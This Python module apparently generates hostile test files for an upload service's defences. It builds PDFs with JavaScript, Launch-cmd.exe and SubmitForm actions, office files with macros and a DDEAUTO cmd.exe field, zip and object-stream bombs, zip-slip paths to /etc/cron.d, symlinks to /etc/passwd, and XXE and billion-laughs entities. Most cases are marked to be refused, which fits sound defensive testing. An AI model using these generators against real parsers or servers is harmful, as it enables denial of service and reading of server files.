"""Hostile PDFs and office documents, made here; nothing of `pulih` is imported."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

import openpyxl
import pikepdf
from security.hostile import BOMB, REFUSE, Hostile

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def pdf(body: bytes = b"<<>>", catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF of one page; `body` is object 4."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/More 4 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]" + page + b">>",
        body,
    )
    made, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(made)
    made += b"xref\n0 5\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % n for n in places)
    return made + b"trailer\n<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start


def saved(content: bytes, **options: object) -> bytes:
    """A PDF as qpdf writes it anew."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as book:
        book.save(target, **options)
    return target.getvalue()


def object_stream_bomb(size: int) -> bytes:
    """Object 5 is a stream of objects that unpacks to so many bytes; object 6 lies in it."""
    packer = zlib.compressobj(9)
    head = b"6 0 "
    body = packer.compress(head + b"(")
    block = b"A" * (1 << 20)
    for _ in range(size >> 20):
        body += packer.compress(block)
    body += packer.compress(b")") + packer.flush()
    made = b"%PDF-1.7\n"
    places = []
    for number, one in (
        (1, b"<</Type/Catalog/Pages 2 0 R/More 6 0 R>>"),
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (
            5,
            b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(body)
            + body
            + b"\nendstream",
        ),
    ):
        places.append(len(made))
        made += b"%d 0 obj\n" % number + one + b"\nendobj\n"
    start = len(made)
    one, two, three, five = places
    rows = [(0, 0, 255), (1, one, 0), (1, two, 0), (1, three, 0)]
    rows += [(0, 0, 0), (1, five, 0), (2, 5, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    made += (
        b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    return made + b"startxref\n%d\n%%%%EOF\n" % start


def many_objects(count: int) -> bytes:
    """A PDF of so many objects."""
    made, places = io.BytesIO(), []
    made.write(b"%PDF-1.4\n")
    fixed = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    for number in range(1, count + 1):
        body = fixed[number - 1] if number < 3 else page if number == 3 else b"[1]"
        places.append(made.tell())
        made.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    start = made.tell()
    made.write(b"xref\n0 %d\n0000000000 65535 f \n" % (count + 1))
    made.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    made.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count + 1, start))
    return made.getvalue()


def package(entries: dict[str, bytes | str], kind: str = "docx") -> bytes:
    """An office document with more inside."""
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}.get(kind)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        if main:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr(main, "<w/>")
        else:
            name = "spreadsheet" if kind == "ods" else "text"
            archive.writestr(
                zipfile.ZipInfo("mimetype"), f"application/vnd.oasis.opendocument.{name}"
            )
            archive.writestr("content.xml", "<office/>")
        for name, content in entries.items():
            archive.writestr(name, content)
    return target.getvalue()


def sheet(*, head: str = "", cell: str = "Nama", parts: dict[str, str] | None = None) -> bytes:
    """A workbook with one cell; `head` stands before its sheet, `parts` lie beside it."""
    made, target = io.BytesIO(), io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Nama"
    book.save(made)
    with (
        zipfile.ZipFile(made) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in source.namelist():
            text = source.read(name).decode()
            if name == "xl/worksheets/sheet1.xml":
                text = head + text.replace("Nama", cell)
            archive.writestr(name, text)
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return target.getvalue()


def grown(content: bytes, megabytes: int) -> bytes:
    """The same package with a part that unpacks to so many megabytes."""
    target = io.BytesIO(content)
    with (
        zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/a.xml", "w") as part,
    ):
        for _ in range(megabytes):
            part.write(b"0" * (1 << 20))
    return target.getvalue()


def lying(content: bytes, name: bytes, claimed: int) -> bytes:
    """The same package, where one entry claims another size."""
    made = bytearray(content)
    for mark, offset, at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = made.find(mark)
        while start != -1:
            if made[start + at : start + at + len(name)] == name:
                struct.pack_into("<I", made, start + offset, claimed)
            start = made.find(mark, start + 4)
    return bytes(made)


def symlink() -> bytes:
    """A document with a link to a file of the server."""
    target = io.BytesIO(package({}))
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("word/media/tautan")
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def twice() -> bytes:
    """A document with two entries of one name, which two readers would not read alike."""
    target = io.BytesIO(package({}))
    with zipfile.ZipFile(target, "a") as archive:
        archive._didModify = True
        entry = zipfile.ZipInfo("word/document.xml")
        archive.filelist.append(entry)
        archive.filelist.pop()
        archive.NameToInfo.clear()
        archive.writestr("word/document.xml", "<other/>")
    return target.getvalue()


def relation(kind: str, target: str) -> str:
    """A list of relations with one that reaches out."""
    return (
        f'<Relationships><Relationship Id="r1" Type="{REL}/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )


def wide(name: str) -> bytes:
    """The name of a stream in a compound file."""
    return name.encode("utf-16-le")


def pdfs() -> Iterator[Hostile]:
    """Programs, files, tricks and bombs in PDFs."""
    program = {
        "plain": pdf(JS),
        "in a compressed object": saved(
            pdf(JS), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "spelled with escapes": pdf(b"<</S/J#61v#61Script/J#53(app.alert(1))>>"),
        "at opening": pdf(catalog=b"/OpenAction" + JS),
        "when a page closes": pdf(page=b"/AA<</C" + JS + b">>"),
        "among the names": pdf(catalog=b"/Names<</JavaScript<</Names[(a)" + JS + b"]>>>>"),
        "encrypted for everybody": saved(
            pdf(JS), encryption=pikepdf.Encryption(owner="x", user="")
        ),
        "that starts another": pdf(b"<</S/Launch/F(cmd.exe)>>"),
        "that sends a form": pdf(b"<</S/SubmitForm/F(http://jahat.invalid)>>"),
        "in a form of XFA": pdf(b"<</XFA[(a) 3 0 R]>>"),
        "in rich media": pdf(b"<</Type/Annot/Subtype/RichMedia>>"),
        "that imports": pdf(b"<</S/ImportData/F(a.fdf)>>"),
    }
    for how, content in program.items():
        yield Hostile(f"PDF with a program {how}", "surat.pdf", content, REFUSE)
    files = {
        "embedded": pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>"),
        "pinned to a page": pdf(b"<</Type/Annot/Subtype/FileAttachment>>"),
        "opened inside": pdf(b"<</S/GoToE/D[0/Fit]>>"),
    }
    for how, content in files.items():
        yield Hostile(f"PDF with a file {how}", "surat.pdf", content, REFUSE)
    yield Hostile("PDF that is a zip", "surat.pdf", pdf() + package({}), REFUSE)
    yield Hostile(
        "PDF with a page at its head", "a.pdf", b"%PDF-1.4\n<html><script>" + pdf(), REFUSE
    )
    yield Hostile("PDF cut short", "surat.pdf", pdf()[:120], REFUSE)
    locked = saved(pdf(JS), encryption=pikepdf.Encryption(owner="x", user="y"))
    yield Hostile("PDF under a password", "surat.pdf", locked, REFUSE)
    yield Hostile("PDF nested deeply", "a.pdf", pdf(b"[" * 200_000 + b"]" * 200_000), BOMB)
    yield Hostile("PDF whose pages turn in a circle", "a.pdf", pdf(page=b"/Kids[2 0 R]"))
    yield Hostile("PDF of objects that unpack to 1 GB", "a.pdf", object_stream_bomb(1 << 30), BOMB)
    yield Hostile("PDF of 400,000 objects", "a.pdf", many_objects(400_000), BOMB)


def documents() -> Iterator[Hostile]:
    """Programs, tricks and bombs in office documents."""
    vba = {"word/vbaProject.bin": b"x"}
    yield Hostile("docm", "surat.docm", package(vba), REFUSE)
    yield Hostile("docm as docx", "surat.docx", package(vba), REFUSE)
    yield Hostile("xlsm as xlsx", "d.xlsx", package({"xl/vbaProject.bin": b"x"}, "xlsx"), REFUSE)
    old = {"xl/macrosheets/sheet1.xml": "<xm/>"}
    yield Hostile("macros of before VBA", "data.xlsx", package(old, "xlsx"), REFUSE)
    away = {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x.invalid/a.dotm")}
    yield Hostile("template from elsewhere", "surat.docx", package(away), REFUSE)
    away = {"word/_rels/document.xml.rels": relation("oleObject", "\\\\x.invalid\\a\\b.doc")}
    yield Hostile("object from elsewhere", "surat.docx", package(away), REFUSE)
    dde = {"word/a.xml": '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>'}
    yield Hostile("a field that asks for a program", "surat.docx", package(dde))
    yield Hostile("exe inside", "a.docx", package({"word/embeddings/a.exe": b"MZ"}), REFUSE)
    packed = {"word/embeddings/a.bin": OLE + wide("Ole10Native")}
    yield Hostile("packed object inside", "surat.docx", package(packed), REFUSE)
    inner = {"word/embeddings/a.docx": package(vba)}
    yield Hostile("macros in a document inside", "surat.docx", package(inner), REFUSE)
    deep = package({})
    for _ in range(6):
        deep = package({"word/embeddings/a.docx": deep})
    yield Hostile("documents in documents", "surat.docx", deep, REFUSE)
    yield Hostile("macros in odt", "a.odt", package({"Basic/S/M.xml": "<x/>"}, "odt"), REFUSE)
    for name, stream in (("a.doc", "WordDocument"), ("a.xls", "Workbook")):
        content = OLE + wide(stream) + wide("_VBA_PROJECT")
        yield Hostile(f"macros in {name[2:]}", name, content, REFUSE)
    macro = b"\x85\x00\x0e\x00\x00\x00\x00\x00\x00\x01\x06\x00Makro1"
    yield Hostile("macros of before VBA in xls", "a.xls", OLE + wide("Workbook") + macro, REFUSE)
    yield Hostile("installer as doc", "surat.doc", OLE + wide("MsiSummary"), REFUSE)


def packages() -> Iterator[Hostile]:
    """Bombs and paths in zips, entities in XML; sheets on both pages that take them."""
    bomb = grown(package({}), 300)
    yield Hostile("zip bomb of 300 MB", "a.docx", bomb, BOMB)
    claims = lying(package({"word/a.xml": "abc"}), b"word/a.xml", 0xFFFF_FFF0)
    yield Hostile("zip that claims 4 GB", "a.docx", claims, BOMB)
    hides = lying(bomb, b"word/a.xml", 1000)
    yield Hostile("zip bomb that claims 1 kB", "a.docx", hides, BOMB)
    many = package({f"word/{number}.xml": "" for number in range(20_000)})
    yield Hostile("zip of 20,000 entries", "a.docx", many, BOMB)
    for path in ("../../../etc/cron.d/a", "/etc/passwd", "..\\..\\a.txt", "C:\\a.txt"):
        yield Hostile(f"zip slip {path}", "a.docx", package({path: "x"}), REFUSE)
    yield Hostile("zip with a link", "a.docx", symlink(), REFUSE)
    yield Hostile("zip with a name twice", "a.docx", twice(), REFUSE)
    yield Hostile("plain zip", "a.zip", package({}, "zip")[40:], REFUSE)
    yield Hostile("zip cut short", "a.docx", package({})[:80], REFUSE)
    for head, what, word in ((XXE, "entity that reads a file", "&e;"), (LAUGHS, "laughs", "&a9;")):
        kind = BOMB if head is LAUGHS else REFUSE
        book = sheet(head=head, cell=word)
        yield Hostile(f"xlsx with {what}", "data.xlsx", book, kind)
        yield Hostile(f"import of xlsx with {what}", "data.xlsx", book, kind, page="import")
        text = package({"word/a.xml": f"{head}<a>{word}</a>".encode("utf-16")})
        yield Hostile(f"docx with {what} in wide text", "surat.docx", text, kind)
        ods = package({"styles.xml": f"{head}<a>{word}</a>"}, "ods")
        yield Hostile(f"import of ods with {what}", "data.ods", ods, kind, page="import")
    yield Hostile("import of 600 MB", "data.xlsx", grown(sheet(), 600), BOMB, page="import")
    yield Hostile("import of a zip bomb", "data.xlsx", hides, BOMB, page="import")
    yield Hostile(
        "import of xlsm", "d.xlsx", sheet(parts={"xl/vbaProject.bin": "x"}), REFUSE, "import"
    )
